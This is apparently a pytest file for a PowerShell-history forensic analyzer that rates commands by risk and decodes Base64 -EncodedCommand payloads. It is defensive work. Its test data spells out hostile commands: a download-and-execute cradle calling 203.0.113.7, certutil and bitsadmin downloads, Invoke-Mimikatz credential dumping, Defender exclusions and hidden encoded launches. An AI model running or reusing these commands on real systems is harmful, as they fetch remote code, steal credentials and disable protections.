"""
Tests for PowerShell command classification and -EncodedCommand decoding.
"""

import base64

import pytest

from viperkit.core.types import Severity
from viperkit.pshistory.analyzer import (
    assess_command,
    decode_encoded_command,
    extract_encoded_payload,
)
from viperkit.pshistory.types import CommandRisk, HistoryEntry

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"


def encode(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


class TestSeverity:
    @pytest.mark.parametrize(
        "command,indicator",
        [
            pytest.param("Invoke-WebRequest http://x/a.ps1 | IEX", "Download + Execute (IWR | IEX)", id="iwr-iex"),
            pytest.param(
                "(New-Object System.Net.WebClient).DownloadString('http://x')",
                "WebClient DownloadString",
                id="webclient",
            ),
            pytest.param("certutil -urlcache -f http://x/a.exe a.exe", "Certutil URL cache (LOLBin)", id="certutil"),
            pytest.param(r"bitsadmin /transfer job http://x C:\a.exe", "BITS transfer (LOLBin)", id="bits"),
            pytest.param("Invoke-Mimikatz -DumpCreds", "Mimikatz execution", id="mimikatz"),
        ],
    )
    def test_high(self, command, indicator):
        risk = assess_command(command)

        assert risk.severity == Severity.HIGH
        assert indicator in risk.indicators

    @pytest.mark.parametrize(
        "command,indicator",
        [
            pytest.param("Set-ExecutionPolicy Bypass -Scope Process", "Execution policy change", id="policy"),
            pytest.param(r"Add-MpPreference -ExclusionPath C:\Temp", "Defender exclusion path", id="defender"),
            pytest.param("New-LocalUser -Name support", "Local user creation", id="user"),
            pytest.param("Enter-PSSession -ComputerName dc01", "Remote PS session", id="remote"),
            pytest.param(r"schtasks /create /tn upd /tr C:\x.exe", "Scheduled task creation (schtasks)", id="task"),
        ],
    )
    def test_medium(self, command, indicator):
        risk = assess_command(command)

        assert risk.severity == Severity.MEDIUM
        assert indicator in risk.indicators

    def test_low_is_normal_command(self):
        risk = assess_command(r"Get-ChildItem C:\Users -Recurse")

        assert risk == CommandRisk()
        assert risk.reason == "Normal command"

    def test_high_skips_medium_table(self):
        risk = assess_command(r"Invoke-Mimikatz; schtasks /create /tn x /tr C:\x.exe")

        assert risk.severity == Severity.HIGH
        assert risk.indicators == ("Mimikatz execution",)

    def test_case_insensitive(self):
        assert assess_command("invoke-mimikatz").severity == Severity.HIGH

    def test_word_inside_path_not_flagged(self):
        assert assess_command(r"cd .\EmpireStateBuilding").severity == Severity.LOW

    def test_reason_joins_indicators(self):
        risk = assess_command("Set-ExecutionPolicy Bypass; New-Service -Name x")

        assert risk.reason == "; ".join(risk.indicators)
        assert "Service creation" in risk.reason

    def test_mitre_techniques(self):
        risk = assess_command("Invoke-WebRequest http://x | iex; Invoke-Mimikatz")

        assert {"T1105", "T1059.001", "T1003"} <= set(risk.mitre_techniques)
        assert len(risk.mitre_techniques) == len(set(risk.mitre_techniques))


class TestEncodedCommands:
    @pytest.mark.parametrize(
        "flag",
        [
            pytest.param("-enc", id="enc"),
            pytest.param("-EncodedCommand", id="full"),
            pytest.param("-EncodedC", id="prefix"),
            pytest.param("-ec", id="ec"),
        ],
    )
    def test_flag_spellings(self, flag):
        payload = encode(CRADLE)

        risk = assess_command(f"powershell.exe -NoP -W Hidden {flag} {payload}")

        assert risk.is_encoded
        assert risk.severity == Severity.HIGH
        assert risk.decoded_command == CRADLE
        assert not risk.decode_failed

    def test_decoded_script_matched_again(self):
        risk = assess_command(f"powershell -enc {encode(CRADLE)}")

        assert risk.indicators[0] == "Base64 encoded command"
        assert "[Decoded] WebClient DownloadString" in risk.indicators
        assert "T1027" in risk.mitre_techniques

    def test_short_flag_needs_long_payload(self):
        short = "powershell -e " + "QUJD" * 6
        long_payload = encode("Write-Output 'hello from a longer encoded command'")

        assert not assess_command(short).is_encoded
        assert len(long_payload) >= 50
        assert assess_command(f"powershell -e {long_payload}").is_encoded

    def test_undecodable_payload(self):
        risk = assess_command("powershell -enc " + "A" * 21)

        assert risk.is_encoded
        assert risk.severity == Severity.HIGH
        assert risk.decode_failed
        assert risk.decoded_command == ""

    def test_odd_byte_count_rejected(self):
        with pytest.raises(ValueError):
            decode_encoded_command(base64.b64encode(b"abc").decode())

    def test_extract_payload(self):
        payload = encode(CRADLE)

        assert extract_encoded_payload(f"pwsh -ExecutionPolicy Bypass -enc {payload}") == payload
        assert extract_encoded_payload("pwsh -ep Bypass -File run.ps1") is None


class TestHistoryEntry:
    def make(self, line_number=1, total=10, command="Get-Process", **kwargs):
        return HistoryEntry(
            command=command,
            user_profile="alice",
            powershell_version="7",
            history_file_path="ConsoleHost_history.txt",
            line_number=line_number,
            total_lines_in_file=total,
            **kwargs,
        )

    @pytest.mark.parametrize(
        "line_number,total,label",
        [
            pytest.param(10, 10, "Very Recent", id="last"),
            pytest.param(8, 10, "Recent", id="recent"),
            pytest.param(5, 10, "Middle", id="middle"),
            pytest.param(3, 20, "Older", id="older"),
            pytest.param(1, 50, "Very Old", id="oldest"),
        ],
    )
    def test_recency_label(self, line_number, total, label):
        assert self.make(line_number, total).recency_label == label

    def test_recency_of_empty_file(self):
        entry = self.make(1, 0)
        assert entry.recency_percent == 0
        assert entry.recency_label == "Very Old"

    def test_command_preview(self):
        entry = self.make(command="x" * 250)

        assert len(entry.command_preview) == 200
        assert entry.command_preview.endswith("...")
        assert self.make(command="short").command_preview == "short"

    def test_labels_and_dict(self):
        entry = self.make(risk=assess_command(f"pwsh -enc {encode(CRADLE)}"))

        data = entry.to_dict()
        assert entry.source_label == "PS 7 | alice"
        assert entry.has_decoded_command
        assert len(entry.id) == 8
        assert data["Severity"] == "HIGH"
        assert data["IsEncoded"] is True
        assert data["DecodedCommand"] == CRADLE
        assert data["RiskReason"] == entry.risk_reason
        assert data["HistoryFileModified"] is None
